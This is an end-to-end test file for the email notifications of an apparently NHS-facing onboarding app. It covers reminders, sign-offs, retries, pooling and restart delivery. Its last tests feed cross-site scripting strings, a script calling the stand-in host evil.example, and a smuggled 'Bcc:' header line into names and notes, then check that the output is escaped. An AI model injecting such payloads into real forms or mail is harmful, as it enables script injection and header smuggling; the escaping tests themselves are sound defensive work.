import { MailWorker } from '../../apps/onramp/src/notifications/mail/mail-worker';
import { ReminderScan } from '../../apps/onramp/src/notifications/jobs/reminder-scan';
import { WeeklyDigest } from '../../apps/onramp/src/notifications/jobs/weekly-digest';
import { OnrampClient, expectStatus, inDays, newOdsCode, type StepJson } from '../support/onramp-client';
import { SmtpSink, waitFor, type ReceivedMail } from '../support/smtp-sink';
import { startTestApp, type TestApp } from '../support/test-app';
import { testDatabaseKinds } from '../support/test-database';

const NATIONAL = ['ers.national@example.nhs.uk', 'regional.lead@example.nhs.uk'];

interface Org {
  ods: string;
  lead: OnrampClient;
  clinical: OnrampClient;
  people: Record<string, { id: string; email: string }>;
  run: { steps: StepJson[]; version: number };
}

describe.each(testDatabaseKinds())('email end to end through a real SMTP server on %s', (kind) => {
  let sink: SmtpSink;
  let t: TestApp;
  let admin: OnrampClient;

  beforeAll(async () => {
    sink = await new SmtpSink().start();
    t = await startTestApp(kind, { smtpUrl: sink.url, mailFrom: 'Onramp <onramp@onramp.example.nhs.uk>', nationalRecipients: NATIONAL, mailMaxAttempts: 3 });
    admin = new OnrampClient(t, t.adminToken);
  });
  afterAll(async () => {
    await t?.close();
    await sink?.stop();
  });

  async function organisation(people: string[], goLiveDate = inDays(200)): Promise<Org> {
    const ods = await admin.registerOrganisation('acute', newOdsCode('M'));
    const lead = admin.as(await admin.createToken(ods, 'implementation-lead'));
    const clinical = admin.as(await admin.createToken(ods, 'clinical-lead'));
    const byRole: Org['people'] = {};
    for (const role of people) {
      const email = `${role}.${ods.toLowerCase()}@example.nhs.uk`;
      const res = await lead.post(`/api/v1/organisations/${ods}/people`, { name: `Pat ${role}`, email, role });
      expectStatus(res, 201);
      byRole[role] = { id: res.body.id, email };
    }
    const run = await lead.startRun(ods, goLiveDate);
    return { ods, lead, clinical, people: byRole, run };
  }

  const mailTo = (address: string, purpose: string) =>
    waitFor(`a ${purpose} email to ${address}`, () => sink.to(address).find((m) => m.parsed.headers.get('x-onramp-purpose') === purpose));
  const html = (m: ReceivedMail) => (typeof m.parsed.html === 'string' ? m.parsed.html : '');
  const step = (o: Org, id: string) => o.run.steps.find((s) => s.id === id)!;

  describe('when a step is assigned', () => {
    it('emails the assignee what to do, why, by when, with the source and a link back to the step', async () => {
      const o = await organisation(['it-lead']);
      const s = step(o, 'core.liaise-with-pas-supplier');
      expectStatus(await o.lead.step(o.ods, s.id, 'assign', { personId: o.people['it-lead'].id }), 200);
      const mail = await mailTo(o.people['it-lead'].email, 'step-assigned');
      expect(mail.parsed.subject).toContain(s.title);
      expect(mail.parsed.from?.value[0]).toEqual({ address: 'onramp@onramp.example.nhs.uk', name: 'Onramp' });
      expect(mail.parsed.messageId).toMatch(/^<[0-9a-f]{40}@onramp\.example\.nhs\.uk>$/);
      expect(html(mail)).toContain(`/organisations/${o.ods}/steps/${s.id}`);
      expect(mail.parsed.text).toContain(s.dueDate.slice(0, 4));
      expect(html(mail)).toContain('https://digital.nhs.uk/');
    });
  });

  describe('when a step is completed', () => {
    it('asks the clinical lead to sign off a clinical step, listing the evidence, and tells the owners of steps it unblocks', async () => {
      const o = await organisation(['clinical-lead', 'clinician', 'implementation-lead']);
      for (const id of ['core.appoint-implementation-lead', 'core.identify-stakeholders']) {
        expectStatus(await o.lead.step(o.ods, id, 'complete', OnrampClient.evidenceFor(step(o, id))), 200);
      }
      // The clinician owns core.record-clinician-service-input, which nominating the clinical lead unblocks.
      expectStatus(await o.lead.step(o.ods, 'core.nominate-clinical-lead', 'complete', OnrampClient.evidenceFor(step(o, 'core.nominate-clinical-lead'))), 200);
      const unblocked = await mailTo(o.people.clinician.email, 'step-unblocked');
      expect(unblocked.parsed.subject).toMatch(/Record|clinician/i);

      const clinicalStep = step(o, 'core.record-clinician-service-input');
      const evidence = OnrampClient.evidenceFor(clinicalStep);
      expectStatus(await o.lead.step(o.ods, clinicalStep.id, 'complete', { ...evidence, note: 'Reviewed with the cardiology team' }), 200);
      const signOff = await mailTo(o.people['clinical-lead'].email, 'sign-off-requested');
      expect(signOff.parsed.text).toContain(evidence.evidence[0].reference);
      expect(signOff.parsed.text).toContain('Reviewed with the cardiology team');
    });
  });

  describe('when a step is reopened', () => {
    it('tells whoever completed it why, keeping what they recorded in the step’s history', async () => {
      const o = await organisation(['clinical-lead', 'clinician', 'implementation-lead']);
      for (const id of ['core.appoint-implementation-lead', 'core.identify-stakeholders', 'core.nominate-clinical-lead']) {
        expectStatus(await o.lead.step(o.ods, id, 'complete', OnrampClient.evidenceFor(step(o, id))), 200);
      }
      const clinicalStep = step(o, 'core.record-clinician-service-input');
      expectStatus(await o.lead.step(o.ods, clinicalStep.id, 'assign', { personId: o.people.clinician.id }), 200);
      const evidence = OnrampClient.evidenceFor(clinicalStep);
      expectStatus(await o.lead.step(o.ods, clinicalStep.id, 'complete', { ...evidence, note: 'Cardiology terms agreed' }), 200);
      const reason = 'The SNOMED CT terms for heart failure are missing: add them and complete again';
      const reopened = await o.clinical.step(o.ods, clinicalStep.id, 'reopen', { reason });
      expectStatus(reopened, 200);
      expect(reopened.body.step).toMatchObject({
        status: 'in-progress',
        evidence: [],
        history: [{ status: 'awaiting-sign-off', note: 'Cardiology terms agreed', reopenReason: reason }],
      });
      expect(reopened.body.step.history[0].evidence).toEqual(evidence.evidence);

      const mail = await mailTo(o.people.clinician.email, 'step-reopened');
      expect(mail.parsed.subject).toBe(`Reopened: ${clinicalStep.title}`);
      expect(mail.parsed.text).toContain(reason);
      expect(mail.parsed.text).toContain(evidence.evidence[0].reference);
      expect(mail.parsed.text).toContain('Awaiting sign-off');
    });
  });

  describe('when a person is added', () => {
    it('welcomes a booking clerk with the worklists to monitor daily', async () => {
      const o = await organisation(['booking-clerk']);
      const welcome = await mailTo(o.people['booking-clerk'].email, 'role-welcome');
      expect(welcome.parsed.text).toMatch(/Referrals for Review/);
      expect(welcome.parsed.text).toMatch(/every working day/i);
      expect(welcome.parsed.text).toMatch(/Appointment Slot Issues/);
    });
  });

  describe('when the daily scan runs', () => {
    it('sends due-soon and overdue reminders once per step and due date, however often it scans', async () => {
      const o = await organisation(['implementation-lead'], inDays(5));
      const scan = t.app.get(ReminderScan);
      const first = await scan.run(new Date());
      expect(first.queued).toBeGreaterThan(0);
      await t.app.get(MailWorker).drain();
      const address = o.people['implementation-lead'].email;
      await mailTo(address, 'step-overdue');
      await mailTo(address, 'step-due-soon');
      const count = () => sink.to(address).filter((m) => /step-(overdue|due-soon)/.test(String(m.parsed.headers.get('x-onramp-purpose')))).length;
      const before = count();
      const again = await scan.run(new Date());
      await t.app.get(MailWorker).drain();
      expect(again.queued).toBe(0);
      expect(count()).toBe(before);
    });
  });

  describe('when the weekly digest runs', () => {
    it('sends the implementation lead readiness, overdue and next due steps', async () => {
      const o = await organisation(['implementation-lead'], inDays(30));
      await t.app.get(WeeklyDigest).run(new Date());
      const digest = await mailTo(o.people['implementation-lead'].email, 'weekly-digest');
      expect(digest.parsed.text).toMatch(/readiness/i);
      expect(digest.parsed.text).toMatch(/overdue/i);
    });
  });

  describe('when the compliance report is sent on demand', () => {
    it('emails every national recipient an HTML summary with a CSV of one row per organisation', async () => {
      const national = admin.as(await admin.createToken(null, 'national-team'));
      const res = await national.post('/api/v1/reports/compliance/send', {});
      expectStatus(res, 202);
      expect(res.body.recipients).toEqual(NATIONAL);
      for (const address of NATIONAL) {
        const report = await mailTo(address, 'compliance-report');
        const csv = report.parsed.attachments.find((a) => a.filename?.endsWith('.csv'));
        expect(csv?.contentType).toMatch(/text\/csv/);
        const organisations = (await admin.get('/api/v1/organisations')).body.items.length;
        expect(csv!.content.toString('utf8').trim().split(/\r\n/).length).toBe(organisations + 1);
      }
    });
  });

  describe('when delivery fails', () => {
    it('retries a temporary failure with backoff and records both attempts', async () => {
      sink.refuseNext(1, 451);
      const o = await organisation(['training-lead']);
      const mail = await mailTo(o.people['training-lead'].email, 'role-welcome');
      const listed = await waitFor('the outbox to show the retry', async () => {
        const items = (await admin.get(`/api/v1/mail?organisation=${o.ods}`)).body.items as {
          purpose: string;
          status: string;
          attempts: number;
          events: { type: string }[];
        }[];
        return items.find((i) => i.purpose === 'role-welcome' && i.status === 'sent');
      });
      expect(listed.attempts).toBe(2);
      expect(listed.events.map((e) => e.type)).toEqual(['MailDeferred', 'MailSent']);
      expect(mail.parsed.messageId).toBeDefined();
    });

    it('dead-letters a message the server refuses permanently, and shows why', async () => {
      sink.refuseNext(1, 550, 'no such mailbox');
      const o = await organisation(['ra-manager']);
      const dead = await waitFor('a dead letter', async () => {
        const items = (await admin.get(`/api/v1/mail?status=dead&organisation=${o.ods}`)).body.items as {
          attempts: number;
          lastError: string;
          events: { type: string }[];
        }[];
        return items[0];
      });
      expect(dead.attempts).toBe(1);
      expect(dead.lastError).toMatch(/550/);
      expect(dead.events.map((e) => e.type)).toEqual(['MailDeadLettered']);
      expect(sink.to(o.people['ra-manager'].email)).toHaveLength(0);
    });

    it('keeps mail while the SMTP server is down and delivers it when it is back', async () => {
      const port = sink.port;
      await sink.stop();
      const o = await organisation(['service-manager']);
      await waitFor('a deferred attempt', async () => {
        const items = (await admin.get(`/api/v1/mail?organisation=${o.ods}`)).body.items as { attempts: number; status: string; lastError: string | null }[];
        return items.find((i) => i.status === 'pending' && i.attempts >= 1 && /ECONNREFUSED|ECONNECTION|connect/i.test(i.lastError ?? ''));
      });
      await sink.start(port);
      await mailTo(o.people['service-manager'].email, 'role-welcome');
    });
  });

  describe('when the SMTP server drops the pooled connections', () => {
    type Listed = { recipient: string; status: string; attempts: number; messageId: string; events: { type: string }[] };
    const listed = async (ods: string, address: string) =>
      ((await admin.get(`/api/v1/mail?organisation=${ods}`)).body.items as Listed[]).find((i) => i.recipient === address);
    const addPerson = async (o: Org, role: string) => {
      const email = `${role}.${Date.now()}.${o.ods.toLowerCase()}@example.nhs.uk`;
      expectStatus(await o.lead.post(`/api/v1/organisations/${o.ods}/people`, { name: `Sam ${role}`, email, role }), 201);
      return email;
    };

    it('sends the next message over a connection it keeps open, and over a fresh one once the server has dropped it', async () => {
      const o = await organisation(['booking-clerk']);
      await mailTo(o.people['booking-clerk'].email, 'role-welcome');
      const second = await mailTo(await addPerson(o, 'it-lead'), 'role-welcome');
      // Pooled: connections stay open after a message and carry the next ones (one per message would make these equal).
      expect(new Set(sink.messages.map((m) => m.connection)).size).toBeLessThan(sink.messages.length);

      // The server closes every idle connection (its idle timeout); the pool notices and opens a new one.
      expect(sink.dropConnections()).toBeGreaterThan(0);
      const address = await addPerson(o, 'capacity-manager');
      const third = await mailTo(address, 'role-welcome');
      expect(third.connection).not.toBe(second.connection);
      const record = await waitFor('the third welcome recorded as sent', async () => {
        const item = await listed(o.ods, address);
        return item?.status === 'sent' && item;
      });
      expect(record.attempts).toBe(1);
      expect(record.events.map((e) => e.type)).toEqual(['MailSent']);
    });

    it('sends again, with the same Message-ID, a message whose connection is dropped before the server accepted it', async () => {
      const o = await organisation(['clinician']);
      await mailTo(o.people.clinician.email, 'role-welcome');
      sink.delayMs = 400;
      try {
        const address = await addPerson(o, 'ra-manager');
        await waitFor('the message to be in the middle of its SMTP transaction', () => sink.inFlight > 0);
        sink.dropConnections();
        const record = await waitFor('the message recorded as sent', async () => {
          const item = await listed(o.ods, address);
          return item?.status === 'sent' && item;
        });
        // At least once: the server had the data but never said it accepted it, so it was sent again.
        const received = await waitFor('the message received', () => sink.to(address).length > 0 && sink.to(address));
        expect(received.every((m) => m.parsed.messageId === record.messageId)).toBe(true);
        expect(record.events.at(-1)?.type).toBe('MailSent');
      } finally {
        sink.delayMs = 0;
      }
    });
  });

  describe('when hostile text reaches a template or a header', () => {
    it('escapes markup in the HTML part and keeps headers intact', async () => {
      const ods = await admin.registerOrganisation('acute', newOdsCode('H'));
      const lead = admin.as(await admin.createToken(ods, 'implementation-lead'));
      const hostile = `<script>alert("x")</script> O'Brien & {{ partner }}`;
      const email = `hostile.${ods.toLowerCase()}@example.nhs.uk`;
      expectStatus(await lead.post(`/api/v1/organisations/${ods}/people`, { name: hostile, email, role: 'clinician' }), 201);
      const welcome = await mailTo(email, 'role-welcome');
      expect(html(welcome)).not.toContain('<script>alert');
      expect(html(welcome)).toContain('&lt;script&gt;');
      expect(welcome.parsed.to && 'value' in welcome.parsed.to ? welcome.parsed.to.value[0] : null).toEqual({ address: email, name: hostile });
      expect(welcome.parsed.headers.get('bcc')).toBeUndefined();
    });

    it('escapes an organisation name, a note and evidence references in the sign-off request, and keeps the subject one line', async () => {
      const ods = newOdsCode('X');
      const orgName = `St Mary's <b>"Trust"</b> & Partners`;
      expectStatus(await admin.post('/api/v1/organisations', { odsCode: ods, name: orgName, type: 'acute' }), 201);
      const lead = admin.as(await admin.createToken(ods, 'implementation-lead'));
      const email = `clinical.${ods.toLowerCase()}@example.nhs.uk`;
      expectStatus(await lead.post(`/api/v1/organisations/${ods}/people`, { name: 'Dr Sam Patel', email, role: 'clinical-lead' }), 201);
      const run = await lead.startRun(ods);
      for (const id of ['core.appoint-implementation-lead', 'core.identify-stakeholders', 'core.nominate-clinical-lead']) {
        expectStatus(await lead.step(ods, id, 'complete', OnrampClient.evidenceFor(run.steps.find((x) => x.id === id)!)), 200);
      }
      const target = run.steps.find((x) => x.id === 'core.record-clinician-service-input')!;
      const hostile = {
        evidence: target.evidenceRequired.map((e) => ({ key: e.key, reference: `<img src=x onerror=alert(1)> "${e.key}"` })),
        note: 'Line one\n<script>fetch("https://evil.example")</script>\nBcc: all@nhs.net',
      };
      expectStatus(await lead.step(ods, target.id, 'complete', hostile), 200);
      const mail = await mailTo(email, 'sign-off-requested');
      const body = html(mail);
      expect(body).not.toMatch(/<img src=x|<script>|<b>"Trust"<\/b>/);
      expect(body).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
      expect(body).toContain('&lt;script&gt;');
      expect(mail.parsed.subject).not.toMatch(/[\r\n]/);
      expect(mail.parsed.headers.get('bcc')).toBeUndefined();
      expect(mail.parsed.text).toContain('<script>fetch'); // plain text is shown as text, never interpreted
    });
  });
});

describe.each(testDatabaseKinds())('a worker stopped between commit and send on %s', (kind) => {
  it('delivers after a restart, with the Message-ID the message was queued with', async () => {
    const sink = await new SmtpSink().start();
    // An instance that queues but runs no jobs: its delivery jobs wait for another one.
    const first = await startTestApp(kind, { smtpUrl: sink.url, backgroundJobs: false });
    const admin = new OnrampClient(first, first.adminToken);
    const ods = await admin.registerOrganisation('acute', newOdsCode('W'));
    const lead = admin.as(await admin.createToken(ods, 'implementation-lead'));
    const email = `it.${ods.toLowerCase()}@example.nhs.uk`;
    expectStatus(await lead.post(`/api/v1/organisations/${ods}/people`, { name: 'Robin IT', email, role: 'it-lead' }), 201);
    const queued = (await admin.get(`/api/v1/mail?organisation=${ods}`)).body.items[0];
    expect(queued).toMatchObject({ status: 'pending', attempts: 0 });
    await first.app.close(); // the process goes away before anything was sent
    expect(sink.messages).toHaveLength(0);

    const second = await startTestApp(kind, { smtpUrl: sink.url, reuse: first.db });
    try {
      const mail = await waitFor('the queued welcome', () => sink.to(email)[0]);
      expect(mail.parsed.messageId).toBe(queued.messageId);
      expect(sink.to(email)).toHaveLength(1);
    } finally {
      await second.close();
      await first.db.drop();
      await sink.stop();
    }
  });
});
